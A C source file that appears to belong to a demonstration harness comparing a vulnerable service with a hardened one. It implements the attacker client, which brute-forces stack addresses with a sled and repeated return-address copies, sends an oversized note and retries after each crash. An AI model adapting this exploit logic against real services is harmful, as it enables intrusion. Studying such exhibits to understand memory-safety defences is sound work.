/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The attacker on Linux: a client of the service that has nothing but a connection
 * to it and its own post.  The exploit is in the post; a request says that it is a
 * note of that many bytes.  When the service ends, the attacker tries again: at
 * another address until the code has run once, at the same one from then on.
 */
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attacker_hardened.h"
#include "attempt.h"
#include "cookie.h"
#include "score.h"

/* Without randomised addresses, stacks begin here (48-bit addresses). */
#define STACK_TOP 0x1000000000000ul
enum { SLED_BYTES = 0x1000, RETURN_COPIES = 64, GUESSES = 64, GUESSES_IN_VAIN = 16 };

/* The injected code never answers: the end of the connection is the end of it. */
static bool inject(uint64_t address)
{
    size_t bytes = attacker_fill_post(0);
    int connection = attacker_connect(); /* this life of the service begins here */
    uint64_t lives = attacker_exhibit()->lives, deaths = attacker_exhibit()->deaths;

    for (size_t i = 0; i < RETURN_COPIES; i++) {
        memcpy(attacker_post + i * sizeof(address), &address, sizeof(address));
    }
    attacker_wait_for_client();
    (void)attacker_note(connection, bytes);
    (void)close(connection);
    return attacker_settle(deaths, lives);
}

/* Guesses downwards from the top of the stack; the sled is as long as a step. */
static void guess_stack(uint64_t most)
{
    volatile struct exhibit *e = attacker_exhibit();

    for (uint64_t i = 1; i <= most && e->lives == 0; i++) {
        uint64_t address = STACK_TOP - i * SLED_BYTES;

        e->variants[STACK_GUESS].tries = i;
        while (e->over == 0 && inject(address)) {
        }
    }
    attacker_finish(STACK_GUESS);
}

int main(void)
{
    if (mmap((void *)EXHIBIT, EXHIBIT_BYTES, PROT_READ | PROT_WRITE,
             MAP_SHARED | MAP_FIXED_NOREPLACE, FD_EXHIBIT, 0) == MAP_FAILED) {
        perror("attacker: map the exhibit");
        return 1;
    }
    cookie_draw();
    attacker_make_post();
    if (attacker_exhibit()->hardened == 0) {
        guess_stack(GUESSES);
    } else {
        guess_stack(GUESSES_IN_VAIN);
        attack_hardened();
    }
    attacker_exhibit()->gave_up = attacker_exhibit()->over == 0;
    for (;;) {
        (void)pause();
    }
}
